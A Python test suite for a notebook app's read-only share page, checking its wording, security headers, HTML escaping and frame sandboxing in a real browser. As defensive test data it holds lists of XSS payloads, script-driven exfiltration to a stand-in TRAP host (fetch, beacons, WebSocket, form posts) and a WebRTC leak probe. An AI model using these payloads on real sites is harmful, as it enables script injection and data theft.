"""The read-only share page: what it says, what it lets through, and what a real browser does with hostile copies."""

import base64
import hashlib
import re
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

import pandas as pd
import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route
from starlette.testclient import TestClient
from website import PHONE, free_port

from app.ui import share, shared
from app.ui.outputs import drawn

Json = dict[str, Any]
TOKEN = "Ab-_" * 11
SOURCE = "def f(x):\n    return 1 / x\n\nf(0)"
NOON = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)


def digest(source: str) -> str:
    return hashlib.sha256(source.encode()).hexdigest()


def a_run(**changes: Any) -> Json:
    return {
        "status": "ok",
        "limit": None,
        "message": "",
        "sha256": digest(SOURCE),
        "exact": True,
        "execution_count": 7,
        "milliseconds": 12,
        "outputs": [],
        "failure": None,
        **changes,
    }


def a_cell(**changes: Any) -> Json:
    source = changes.get("source", SOURCE)
    return {
        "id": "c1",
        "number": 1,
        "title": "f",
        "source": source,
        "sha256": digest(source),
        "version": 1,
        "origin": "model",
        "edited": False,
        "stale": None,
        "run": a_run(sha256=digest(source)),
        **changes,
    }


def a_copy(**changes: Any) -> Json:
    return {
        "title": "Division",
        "made_at": "2026-11-23T10:42:00+00:00",
        "models": ["Qwen2.5-Coder-1.5B-Instruct"],
        "turns": [{"number": 1, "request": "Divide", "prose": "", "cell": "c1", "version": 1}],
        "cells": [a_cell()],
        **changes,
    }


def with_outputs(*outputs: Json) -> Json:
    return a_copy(cells=[a_cell(run=a_run(outputs=list(outputs)))])


def display(mime: str, value: object) -> Json:
    return {"output_type": "display_data", "data": {mime: value}}


def answer(found: object, token: str = TOKEN) -> Response:
    return share.respond(lambda _: found, token, NOON)  # type: ignore[arg-type, return-value]


def html_of(copy: Json) -> str:
    response = answer(copy)
    assert response.status_code == 200
    return bytes(response.body).decode()


def test_tests_are_shown_with_what_came_of_them() -> None:
    tests = [
        {"number": 1, "call": "f(1)", "expected": "1.0", "standing": "pinned", "passed": True, "actual": "1.0"},
        {"number": 2, "call": "f(0)", "expected": "0", "standing": "pinned", "passed": False, "actual": "raises <X>"},
        {"number": 3, "call": "assert f(2)", "expected": "", "standing": "unconfirmed", "passed": None, "actual": ""},
    ]
    html = html_of(a_copy(cells=[a_cell(tests=tests)]))
    assert "1/2 pinned tests" in html
    assert '<code dir="ltr">f(1)</code> should be 1.0: passes<' in html
    assert "should be 0: fails, raises &lt;X&gt;<" in html
    assert "should hold: not run on this code, unconfirmed<" in html


class Words(HTMLParser):
    """The text of a page, its style sheet left out, and the elements that it has."""

    def __init__(self) -> None:
        super().__init__()
        self.words: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if self.elements and self.elements[-1][0] != "style":
            self.words.append(data)


def read(copy: Json) -> Words:
    words = Words()
    words.feed(html_of(copy))
    return words


def text_of(copy: Json) -> str:
    return " ".join("".join(read(copy).words).split())


# ---------- what it says ----------


def test_it_tells_whose_copy_of_when() -> None:
    copy = a_copy(models=["A", "B"], cells=[a_cell(), a_cell(id="c2", number=2, origin="hand", edited=True, version=3)])
    text = text_of(copy)
    assert "Read-only copy of 23 November 2026, 10:42 UTC. Written with A and B, by turns and by hand." in text
    assert "1 request, 2 cells." in text
    assert "v3, edited by hand" in text


def test_an_output_says_which_code_it_came_from() -> None:
    assert f"ran on exactly this code {digest(SOURCE)[:7]}" in text_of(a_copy())
    assert "edited since; output of c20be44" in text_of(
        a_copy(cells=[a_cell(run=a_run(exact=False, sha256="c20be44" + "0" * 57))])
    )
    waited = a_run(status="interrupted", execution_count=None, milliseconds=0)
    for never in (None, waited):
        text = text_of(a_copy(cells=[a_cell(run=never)]))
        assert "not run" in text
        assert "ran on exactly this code" not in text


def test_a_digest_that_is_not_the_shown_codes_is_not_believed() -> None:
    forged = a_cell(sha256="f" * 64, run=a_run(sha256="f" * 64, exact=True))
    assert "edited since; output of fffffff" in text_of(a_copy(cells=[forged]))


def test_an_exact_output_tells_what_changed_around_it() -> None:
    text = text_of(a_copy(cells=[a_cell(stale="cell 2 changed since it ran")]))
    assert "cell 2 changed since it ran" in text
    assert "ran on exactly this code" in text


@pytest.mark.parametrize(
    ("status", "milliseconds", "words"),
    [
        ("ok", 12, "ran 12 ms"),
        ("error", 2140, "failed after 2.1 s"),
        ("interrupted", 125_000, "interrupted after 2 min 5 s"),
        ("limit", 30_000, "stopped at a limit after 30.0 s"),
        ("died", 5, "the kernel died"),
        ("cut", None, "cut off when the server ended"),
    ],
)
def test_how_a_run_ended(status: str, milliseconds: int | None, words: str) -> None:
    assert words in text_of(a_copy(cells=[a_cell(run=a_run(status=status, milliseconds=milliseconds))]))


def test_a_traceback_names_its_places_and_marks_the_line() -> None:
    frames = [
        {"execution_count": 7, "line": 4, "function": "<module>", "text": "f(0)"},
        {"execution_count": 7, "line": 2, "function": "f", "text": "return 1 / x"},
        {"execution_count": 3, "line": 9, "function": "g", "text": "g()"},
    ]
    failure = {"name": "ZeroDivisionError", "message": "division by zero", "frames": frames, "hidden": 2}
    copy = a_copy(cells=[a_cell(run=a_run(status="error", failure=failure))])
    text = text_of(copy)
    assert "ZeroDivisionError: division by zero" in text
    assert "cell 1, line 2 in f" in text
    assert "module" not in text
    assert "an earlier run, line 9 in g" in text
    assert "2 frames in libraries hidden" in text
    assert re.search(r'<span class="l i8 err"> +<span class="k">return</span>', html_of(copy))
    assert 'aria-label="Code of cell 1, error on line 2"' in html_of(copy)


def test_requests_stand_over_their_cell_and_lost_ones_at_the_end() -> None:
    turns = [
        {"number": 1, "request": "First", "prose": "Uses `f`.", "cell": "c1", "version": 1},
        {"number": 2, "request": "Why?", "prose": "Because.", "cell": "gone", "version": 1},
        {"number": 3, "request": "Then", "prose": "", "cell": "c1", "version": 2},
    ]
    text = text_of(a_copy(turns=turns))
    places = [text.index(word) for word in ("First", "Uses f.", "Then", "def f(x)", "Requests without a cell", "Why?")]
    assert places == sorted(places)


def test_code_is_whole_numbered_by_the_style_sheet_and_coloured() -> None:
    page = html_of(a_copy(cells=[a_cell(source='class A:  # x\n\tb = "é" if 1 else None\n\n')]))
    code = page[page.index("<pre class=") : page.index("</pre>")]
    assert re.sub(r"<[^>]+>", "", code).replace("&#34;", '"') == 'class A:  # x\n\tb = "é" if 1 else None\n\n'
    assert '<span class="k">class</span> <span class="f">A</span>' in code
    assert '<span class="m">1</span>' in code


def test_a_table_has_heads_for_rows_and_columns() -> None:
    columns = pd.MultiIndex.from_product([["x"], ["p", "q"]])
    frame = pd.DataFrame([[1, 2]], index=pd.Index(["a"], name="k"), columns=columns)
    page = html_of(with_outputs(display("text/html", frame._repr_html_())))
    assert '<td></td><th scope="colgroup" colspan="2">x</th>' in page
    assert '<th scope="col">k</th><th scope="col">p</th><th scope="col">q</th>' in page
    assert '<th scope="row">a</th><td>1</td><td>2</td>' in page
    assert "<caption>1 row × 2 columns</caption>" in page  # noqa: RUF001


def test_the_first_line_of_an_output_is_kept_even_if_it_is_blank() -> None:
    assert "<pre>\n\nb</pre>" in html_of(with_outputs({"output_type": "stream", "name": "stdout", "text": "\nb"}))


def test_html_output_says_that_it_is_reduced() -> None:
    text = text_of(with_outputs(display("text/html", "<p>Total <b>5</b></p><script>1</script>")))
    assert "Total 5" in text
    assert "HTML output, shown without its styles and scripts." in text
    assert "drawn by a script" in text_of(with_outputs(display("application/javascript", "draw()")))


def test_five_megabytes_of_output_make_a_page_that_opens() -> None:
    page = html_of(with_outputs({"output_type": "stream", "name": "stdout", "text": "spam <b>\n" * 600_000}))
    assert len(page) < 2_000_000
    assert "The output went on; this is its first part." in page


def test_an_empty_session_is_a_page_too() -> None:
    assert "The session was empty when this copy was made." in text_of(a_copy(title=" ", turns=[], cells=[], models=[]))


# ---------- addresses and headers ----------


def test_the_fork_link_stays_below_any_root_path() -> None:
    links = [attributes["href"] for tag, attributes in read(a_copy()).elements if tag == "a"]
    assert links == [f"../?fork={TOKEN}"]


def test_a_root_may_be_given() -> None:
    response = share.page(shared.read(a_copy()), token=TOKEN, base="https://host.test/app", now=NOON)
    assert f'href="https://host.test/app/?fork={TOKEN}"' in bytes(response.body).decode()


def test_it_is_neither_kept_nor_listed_nor_framed_and_runs_nothing() -> None:
    headers = answer(a_copy()).headers
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-robots-tag"] == "noindex, nofollow"
    policy = headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    for part in ("img-src data:", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"):
        assert part in policy
    assert "script" not in policy
    assert "unsafe" not in policy


def test_the_policy_names_exactly_this_style_sheet() -> None:
    response = answer(a_copy())
    (style,) = re.findall(r"<style>(.*?)</style>", bytes(response.body).decode(), re.DOTALL)
    its = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"'sha256-{its}'" in response.headers["content-security-policy"]


@pytest.mark.parametrize(
    "token", ["a" * 21, "a" * 65, "a" * 21 + "é", "a" * 30 + "'", "a" * 30 + "\n", "..", "a b" * 10, ""]
)
def test_a_malformed_token_never_reaches_the_storage(token: str) -> None:
    def find(_: str) -> None:
        raise AssertionError("asked the storage")

    assert share.respond(find, token, NOON).status_code == 404


def test_an_unknown_link_and_a_withdrawn_one_say_so() -> None:
    unknown, withdrawn = answer(None), answer(datetime(2026, 11, 23, tzinfo=UTC))
    assert (unknown.status_code, withdrawn.status_code) == (404, 410)
    assert "There is no such link" in bytes(unknown.body).decode()
    assert "Its owner revoked it on 23 November 2026." in bytes(withdrawn.body).decode()
    for response in (unknown, withdrawn):
        assert 'href="../">Start a session of your own' in bytes(response.body).decode()
        assert response.headers["cache-control"] == "no-store"


def test_a_damaged_copy_names_the_part_and_keeps_its_contents_to_itself() -> None:
    damaged = a_copy(cells=[a_cell(number="<secret>")])
    assert answer(damaged).status_code == 500
    with pytest.raises(shared.DamagedCopy, match=r"cells\.0\.number") as caught:
        shared.read(damaged)
    assert "secret" not in str(caught.value)


def test_the_route_answers_get_and_head_only() -> None:
    with TestClient(Starlette(routes=share.routes(lambda _: a_copy()))) as client:
        assert client.get(f"/s/{TOKEN}").status_code == 200
        assert client.head(f"/s/{TOKEN}").status_code == 200
        assert client.post(f"/s/{TOKEN}").status_code == 405
        assert client.get("/s/short").status_code == 404


# ---------- markup in every place that takes text ----------

MARKUP = "</pre></title></style><img src=x onerror=top.pwned=1><script>top.pwned=1</script>\"'{{7*7}}\u202eevil\0\ud800"


def hostile_copy() -> Json:
    frame = {"execution_count": 7, "line": 1, "function": MARKUP, "text": MARKUP}
    failure = {"name": MARKUP, "message": MARKUP, "frames": [frame], "hidden": 0}
    mimes = ("text/plain", "text/html", "text/markdown", "text/latex", "application/json", "image/png", MARKUP)
    outputs = [
        *(display(mime, MARKUP) for mime in mimes),
        {"output_type": "stream", "name": MARKUP, "text": MARKUP},
        {"output_type": MARKUP},
        display("text/html", f"<table><tr><th>{'&lt;script&gt;'}</th></tr><tr><td>\u202e</td></tr></table>"),
    ]
    cell = a_cell(
        title=MARKUP,
        source="x",
        origin=MARKUP,
        stale=MARKUP,
        run=a_run(sha256=digest("x"), status=MARKUP, message=MARKUP, outputs=outputs, failure=failure),
    )
    unran = a_cell(id=MARKUP, number=2, source=f'"{MARKUP[:-2]}"', run=a_run(sha256=MARKUP))
    cell_of = {"number": 1, "request": MARKUP, "prose": MARKUP, "cell": "c1", "version": 1}
    return a_copy(title=MARKUP, models=[MARKUP], cells=[cell, unran], turns=[cell_of, {**cell_of, "cell": None}])


def test_markup_stays_text_wherever_it_stands() -> None:
    page = read(hostile_copy())
    tags = {tag for tag, _ in page.elements}
    assert tags.isdisjoint({"script", "img", "iframe", "object", "embed", "form", "link", "base"})
    assert not [name for _, attributes in page.elements for name in attributes if name.startswith("on")]
    assert not [attributes for _, attributes in page.elements if "style" in attributes]
    assert "{{7*7}}" in "".join(page.words)


def test_what_would_reorder_or_hide_text_is_spelled_out() -> None:
    page = html_of(hostile_copy())
    assert not set(page) & {chr(code) for code in (0, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}
    assert "\u2039U+202E\u203aevil␀" in page


# ---------- a real browser ----------


@contextmanager
def serving(app: Starlette) -> Iterator[str]:
    """The app on a port of its own; its address without a slash."""
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="warning", ws="none", lifespan="off"))
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.01)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join()


class Trap:
    """Another origin that remembers who came."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.app = Starlette(routes=[Route("/{path:path}", self._hit, methods=["GET", "POST"])])

    def _hit(self, request: Request) -> Response:
        self.hits.append(request.url.path)
        return PlainTextResponse("caught")


class Stage:
    """A browser, a server that shows one copy or one page, and a trap."""

    def __init__(self, context: BrowserContext, trap: Trap, trap_url: str) -> None:
        self.context, self.trap, self.trap_url = context, trap, trap_url
        self.copy: Json = a_copy()
        self.around = ""
        self.url = ""
        self.app = Starlette(routes=[*share.routes(lambda _: self.copy), Route("/around", self._around)])

    def _around(self, _: Request) -> Response:
        headers = {"Content-Security-Policy": "frame-src 'self'"}
        return HTMLResponse(f"<!doctype html><title>page</title>{self.around}", headers=headers)

    def open(self, path: str) -> Page:
        page = self.context.new_page()
        page.goto(self.url + path)
        # What scripts do after loading needs a moment. A wait for the network to be idle has no end where the browser
        # never tells how a blocked request ended.
        page.wait_for_timeout(500)
        return page

    def share(self, copy: Json) -> Page:
        self.copy = copy
        return self.open(f"/s/{TOKEN}")

    def frame(self, document: str) -> Page:
        """A page that holds the document as the playground does, and notes the heights that it tells."""
        escaped = document.replace("&", "&amp;").replace('"', "&quot;")
        self.around = (
            "<script>heights=[];onmessage=event=>event.data.type==='height'&&heights.push(event.data.height)</script>"
            f'<iframe sandbox="allow-scripts" srcdoc="{escaped}"></iframe>'
        )
        return self.open("/around")

    def untouched(self, page: Page, address: str) -> None:
        """Nothing ran in the page, it is where it was, and nobody was told."""
        assert page.evaluate("[typeof window.pwned, document.title === 'pwned']") == ["undefined", False]
        assert page.url == self.url + address
        assert self.trap.hits == []


@pytest.fixture
def stage(browser: Browser) -> Iterator[Stage]:
    trap = Trap()
    context = browser.new_context(viewport={"width": 1000, "height": 900})
    with serving(trap.app) as trap_url:
        its = Stage(context, trap, trap_url)
        with serving(its.app) as its.url:
            yield its
            context.close()


# TRAP is replaced by the trap's address.
HTML_ATTACKS = [
    "<script>parent.pwned=1;top.pwned=1;window.pwned=1</script>",
    "<img src=x onerror='top.pwned=1'>",
    "<svg onload='top.pwned=1'><script>top.pwned=1</script></svg>",
    '<iframe srcdoc="<script>top.pwned=1;parent.parent.pwned=1</script>"></iframe>',
    "<img src='TRAP/leak'><style>@import url(TRAP/css);body{background:url(TRAP/back)}</style>",
    "<link rel=stylesheet href='TRAP/css'><link rel=prefetch href='TRAP/next'><link rel=icon href='TRAP/icon'>",
    "<meta http-equiv=refresh content='0;url=TRAP/refresh'>",
    "<form action='TRAP/form' target=_top><button autofocus></form><script>document.forms[0].submit()</script>",
    "<script>top.location='TRAP/top'</script>",
    "<script>location='TRAP/away?'+document.title</script>",
    "<script>window.open('TRAP/open');fetch('TRAP/fetch').catch(()=>0);new Image().src='TRAP/image'</script>",
    "<script>navigator.sendBeacon('TRAP/beacon');new WebSocket('TRAP'.replace('http','ws')+'/socket')</script>",
    "<object data='TRAP/object'></object><embed src='TRAP/embed'><video src='TRAP/video'></video>",
    "<base href='TRAP/'><img src=relative><a href='//TRAP' ping='TRAP/ping' autofocus>x</a>",
    "<script>parent.document.title='pwned'</script>",
    "<script>localStorage.x=1;document.cookie='pwned=1'</script>",
    "</iframe></pre></div><script>top.pwned=1</script>",
]


def test_the_trap_catches_what_an_unguarded_page_lets_go(stage: Stage) -> None:
    stage.around = f"<img src='{stage.trap_url}/leak'><script>top.pwned=1</script>"
    page = stage.open("/around")
    assert stage.trap.hits == ["/leak"]
    assert page.evaluate("window.pwned") == 1


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_in_a_frame_neither_reaches_the_page_nor_the_network(stage: Stage, attack: str) -> None:
    (one,) = drawn([display("text/html", attack.replace("TRAP", stage.trap_url))])
    assert one["kind"] == "frame"
    page = stage.frame(one["document"])
    stage.untouched(page, "/around")


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_on_a_share_does_nothing(stage: Stage, attack: str) -> None:
    attack = attack.replace("TRAP", stage.trap_url)
    prose = {"number": 1, "request": attack, "prose": attack, "cell": "c1", "version": 1}
    copy = with_outputs(
        *(display(mime, attack) for mime in ("text/html", "text/markdown", "text/plain", "image/svg+xml"))
    )
    stage.untouched(stage.share({**copy, "title": attack, "turns": [prose]}), f"/s/{TOKEN}")


@pytest.mark.parametrize(
    "output",
    [
        display("application/javascript", "top.pwned=1;element.innerHTML='<img src=TRAP/leak>'"),
        display(
            "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><image href='TRAP/leak'/></svg>",
        ),
        display("text/markdown", "[x](javascript:top.pwned=1) <img src=x onerror=top.pwned=1> ![y](TRAP/leak)"),
        {"output_type": "error", "ename": "E", "evalue": "<img src=x onerror=top.pwned=1>", "traceback": []},
        {
            "output_type": "stream",
            "name": "stdout",
            "text": "\x1b[31m<script>top.pwned=1</script>\x1b]8;;javascript:top.pwned=1\x07x",
        },
        {"output_type": "display_data", "data": {"text/html;<script>": "x", "<b>": "y", "text/plain": "z"}},
    ],
)
def test_no_other_kind_of_output_acts_on_a_share(stage: Stage, output: Json) -> None:
    data = {mime: str(value).replace("TRAP", stage.trap_url) for mime, value in output.get("data", {}).items()}
    page = stage.share(with_outputs({**output, "data": data}))
    stage.untouched(page, f"/s/{TOKEN}")
    for link in page.locator("main a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript:")


def test_a_script_in_a_frame_runs_and_tells_its_height(stage: Stage) -> None:
    (one,) = drawn([display("application/javascript", "element.style.height='321px'; element.id='drawn'")])
    assert one["kind"] == "frame"
    page = stage.frame(one["document"])
    page.wait_for_function("heights.at(-1) >= 321")
    assert page.frame_locator("iframe").locator("#drawn").count() == 1


CALL = (
    "const p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:PORT'}]});"
    "p.createDataChannel('x');p.createOffer().then(it=>p.setLocalDescription(it))"
)
NESTED = f"document.createElement('iframe');f.srcdoc='<script>'+{CALL!r}+'</'+'script>'"


@pytest.mark.parametrize(
    "markup",
    [
        f"<script>{CALL}</script>",
        f"<script>const f={NESTED};document.body.append(f)</script>",
        f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
        f'<iframe src="javascript:{CALL}"></iframe>',
        f"<p id=p><script>const f={NESTED};p.attachShadow({{mode:'closed'}}).append(f)</script>",
    ],
)
def test_no_packet_leaves_a_frame(stage: Stage, markup: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.settimeout(0.5)
        (one,) = drawn([display("text/html", markup.replace("PORT", str(stun.getsockname()[1])))])
        assert one["kind"] == "frame"
        stage.frame(one["document"])
        with pytest.raises(TimeoutError):
            stun.recv(2000)


def test_markup_everywhere_is_only_read(stage: Stage) -> None:
    page = stage.share(hostile_copy())
    stage.untouched(page, f"/s/{TOKEN}")
    assert "<script>top.pwned=1</script>" in page.inner_text("h1")
    assert page.locator("h1").evaluate("node => node.childElementCount") == 0


def test_the_style_sheet_is_accepted_and_numbers_are_not_copied(stage: Stage) -> None:
    complaints: list[str] = []
    stage.context.on("console", lambda message: complaints.append(message.text))
    page = stage.share(a_copy())
    assert page.evaluate("getComputedStyle(document.querySelector('.cell')).borderTopWidth") == "1px"
    assert (
        page.evaluate(
            "(getSelection().selectAllChildren(document.querySelector('.code')), getSelection().toString())"
        ).strip()
        == SOURCE
    )
    assert complaints == []


def test_it_reads_the_same_without_javascript(browser: Browser, stage: Stage) -> None:
    with_script = stage.share(a_copy()).inner_text("body")
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{stage.url}/s/{TOKEN}")
    assert page.inner_text("body") == with_script
    context.close()


@pytest.mark.parametrize("width", [320, PHONE["width"], 1000])
def test_nothing_leaves_the_page_sideways(stage: Stage, width: int) -> None:
    wide = pd.DataFrame([[f"value-{n}" for n in range(30)]])
    copy = with_outputs(
        display("text/html", wide._repr_html_()), {"output_type": "stream", "name": "stdout", "text": "x" * 3000}
    )
    page = stage.share({**copy, "title": "T" * 200, "models": ["m" * 300]})
    page.set_viewport_size({"width": width, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") == width


def test_dark_follows_the_system_and_paper_is_light(stage: Stage) -> None:
    page = stage.share(a_copy())
    ground = "getComputedStyle(document.body).backgroundColor"
    page.emulate_media(color_scheme="dark")
    assert page.evaluate(ground) == "rgb(15, 18, 20)"
    page.emulate_media(color_scheme="dark", media="print")
    assert page.evaluate(ground) == "rgb(255, 255, 255)"
    assert not page.get_by_role("link", name="Fork").is_visible()
    assert page.get_by_text("Printed from the copy").is_visible()


def test_the_keyboard_reaches_the_link_and_the_wide_table(stage: Stage) -> None:
    page = stage.share(with_outputs(display("text/html", pd.DataFrame([[1]])._repr_html_())))
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Fork"
    assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Output 1 of cell 1, table"


CONTRASTS = """() => {
  const channel = c => (c /= 255) <= .04045 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4;
  const parsed = text => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => .2126 * channel(r) + .7152 * channel(g) + .0722 * channel(b);
  const ground = node => {
    for (; node; node = node.parentElement) {
      const colour = parsed(getComputedStyle(node).backgroundColor);
      if (colour.length === 3 || colour[3] > 0) return colour;
    }
    return [255, 255, 255];
  };
  const poor = [];
  for (const node of document.querySelectorAll("body *")) {
    if (![...node.childNodes].some(child => child.nodeType === 3 && child.data.trim())) continue;
    const pair = [light(parsed(getComputedStyle(node).color)), light(ground(node))].sort((a, b) => b - a);
    const ratio = (pair[0] + .05) / (pair[1] + .05);
    if (ratio < 4.5) poor.push([node.className, node.textContent.slice(0, 30), ratio]);
  }
  return poor;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_text_has_contrast(stage: Stage, scheme: Any) -> None:
    failure = {"name": "E", "message": "m", "frames": [{"line": 2, "execution_count": 7, "text": "x"}], "hidden": 1}
    source = 'def f(x):  # word\n    return "s", 1, None\n'
    failed = a_cell(
        source=source, stale="cell 2 changed", run=a_run(sha256=digest(source), status="error", failure=failure)
    )
    others = [a_cell(id="b", number=2, run=a_run(exact=False, status="limit", message="m")), a_cell(id="d", run=None)]
    page = stage.share(a_copy(cells=[failed, *others]))
    page.emulate_media(color_scheme=scheme)
    assert page.evaluate(CONTRASTS) == []
